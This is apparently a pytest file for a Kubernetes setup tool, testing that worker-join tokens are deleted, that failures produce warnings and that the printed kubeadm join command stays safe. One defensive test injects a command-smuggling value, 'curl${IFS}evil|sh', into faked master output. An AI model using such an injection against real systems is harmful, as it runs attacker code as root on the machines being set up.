"""The workers' token lives as long as their join."""

from contextlib import nullcontext
from dataclasses import replace

import pytest
import samples
from contexts import FakeExecutor, context_of

from haplane.domain.observed import Observation
from haplane.domain.plan import Kind, Step
from haplane.errors import HaplaneError
from haplane.phases.converge.join_workers import join_workers, print_join_command

INVENTORY = samples.inventory(workers=2)
PRINTED = (
    f"kubeadm join 10.0.0.10:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash sha256:{'0' * 64}\n"
)


class Masters(FakeExecutor):
    """Make and delete tokens; ``fails``: the joins do."""

    def __init__(self, *, deletes=True, fails=False):
        super().__init__()
        self.deletes, self.fails, self.asked = deletes, fails, []

    def run(self, master, *command, deadline_seconds=60):
        self.asked.append(command)
        if command[:3] == ("kubeadm", "token", "delete") and not self.deletes:
            raise HaplaneError("a command failed on m1", why="timed out")
        return PRINTED.encode()

    def deploy(self, hosts, recipe, **arguments):
        super().deploy(hosts, recipe, **arguments)
        assert ("kubeadm", "token", "delete", "abcdef") not in self.asked
        if self.fails:
            raise HaplaneError("kubeadm join failed on w1")


def joining(masters):
    steps = [Step(Kind.JOIN, name, "not a node yet") for name in ("w1", "w2")]
    return context_of(INVENTORY, samples.converged(INVENTORY), executor=masters, steps=steps)


@pytest.mark.parametrize("fails", [False, True])
def test_the_token_is_deleted_however_the_joins_end(fails):
    context = joining(Masters(fails=fails))
    with pytest.raises(HaplaneError, match="kubeadm join failed on w1") if fails else nullcontext():
        join_workers(context)
    assert context.executor.asked[-1] == ("kubeadm", "token", "delete", "abcdef")
    assert context.result.warnings == []


def test_one_that_could_not_be_deleted_is_told():
    context = joining(Masters(deletes=False))
    join_workers(context)
    [warning] = context.result.warnings
    assert warning.endswith("kubeadm token delete abcdef")
    assert "timed out" in warning
    assert "0123456789abcdef" not in warning


def test_no_master_and_no_token_hides_why_a_join_failed():
    """The error of a master that was left out took the place of the join's own."""
    context = joining(Masters(fails=True))
    honest, found = context.executor.deploy, context.observation

    def deploy(*words, **arguments):
        gone = Observation(reports={}, unreachable=dict.fromkeys(found.reports, "off"))
        context.see(replace(context.view, observation=gone))
        honest(*words, **arguments)

    context.executor.deploy = deploy
    with pytest.raises(HaplaneError, match="kubeadm join failed on w1"):
        join_workers(context)
    [warning] = context.result.warnings
    assert "no master is reachable" in warning


def test_what_is_printed_to_run_as_root_has_the_inventorys_endpoint():
    context = joining(Masters())
    honest = PRINTED.replace(":6443", ":6443;curl${IFS}evil|sh;:")
    context.executor.run = lambda *_, **__: honest.encode()
    print_join_command(context)
    assert context.result.join_command == PRINTED.strip()
